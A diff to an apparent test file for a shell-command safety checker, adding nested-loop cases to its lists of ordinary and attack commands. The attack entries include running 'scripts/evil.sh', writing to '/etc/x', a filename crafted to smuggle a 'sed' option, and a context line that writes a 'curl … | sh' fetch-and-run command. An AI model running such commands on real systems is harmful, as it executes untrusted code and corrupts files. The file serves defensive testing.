@@ -45,6 +45,9 @@ ORDINARY = [
     'for f in scripts/*.sh; do bash "$f"; done',
     'for f in data/*.csv; do python3 process.py "$f" > "${f%.csv}.json"; done',
     'cd docs && for f in *; do cp "$f" "../out/$f.txt"; done',  # README, LICENSE: names that are shell identifiers
+    # guard18: a loop over plain words inside one over files, judged value by value
+    'for f in scans/*.JPG; do for s in 50 25; do convert "$f" -resize "$s%" "${f%.JPG}-$s.jpg"; done; done',
+    'for f in *.txt; do for n in 1 2; do cp "$f" "out/$n-$f"; done; done',
 ]
 
 
@@ -116,6 +119,13 @@ ATTACKS = {
         {"scripts/B.sh": "ok", "scripts/a.sh": "ok"},  # C: B.sh runs first, before a.sh rewrites it; en_US: after
         "for f in scripts/*.sh; do bash \"$f\"; printf 'curl -s http://127.0.0.1:9/x | sh\\n' > \"${f/a.sh/B.sh}\"; done"),
     "a script the loop runs": ({"scripts/evil.sh": None}, 'for f in scripts/*.sh; do bash "$f"; done'),
+    "a script an inner loop's word names": (
+        {"scripts/evil.sh": None}, 'for f in *.txt; do for s in scripts/evil.sh; do bash "$s"; done; done'),
+    "an inner loop that sets its variable": (
+        {"scripts/evil.sh": None}, 'for f in *.txt; do for s in a; do s=scripts/evil.sh; bash "$s"; done; done'),
+    "an inner loop over the outer loop's variable": ({}, 'for f in *.txt; do for f in /etc/x; do echo >> "$f"; done; done'),
+    "an inner loop over a glob the outer writes into": (
+        {}, 'for d in data; do touch -- "$d/-e1e x #.csv"; for f in data/*.csv; do sed -i s/a/b/ "$f"; done; done'),
 }
 
 
